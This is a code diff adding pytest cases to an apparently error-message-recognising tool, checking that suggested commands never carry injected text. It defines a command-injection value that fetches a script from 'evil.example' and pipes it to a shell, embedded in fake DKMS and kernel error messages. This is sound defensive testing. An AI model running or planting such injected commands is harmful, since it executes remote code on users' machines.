@@ -266,3 +266,24 @@ def test_what_nobody_knows_stays_unknown() -> None:
 def test_any_words_are_read(said: str) -> None:
     found = recognised(said)
     assert found is None or str(found).endswith(".")
+
+
+# What a shell reads as more than one word, where a tool prints a kernel, a package or a version.
+HOSTILE = "1;curl${IFS}evil.example|sh"
+QUOTING = (
+    f"Error! DKMS tree already contains: habanalabs-{HOSTILE}",
+    f"Error! DKMS tree already contains: {HOSTILE}-1.24.0",
+    f"module/version combo: habanalabs-{HOSTILE} is not located in the DKMS tree.",
+    f"Error! Your kernel headers for kernel {HOSTILE} cannot be found",
+    f"Module build for kernel {HOSTILE} was skipped since the kernel headers",
+    f"modprobe: FATAL: Module habanalabs not found in directory /lib/modules/{HOSTILE}",
+    f"no available installation candidate for '{HOSTILE}=1.24.0'",
+    f"Error! Bad return status for module build on kernel: {HOSTILE}\n/lib/modules/x/build: No such file or directory",
+)
+
+
+@pytest.mark.parametrize("said", QUOTING)
+def test_no_command_to_type_has_more_of_a_text_than_words(said: str) -> None:
+    """People get such texts from others, and copy what they are told to run."""
+    found = recognised(said)
+    assert found is None or "evil" not in str(found)
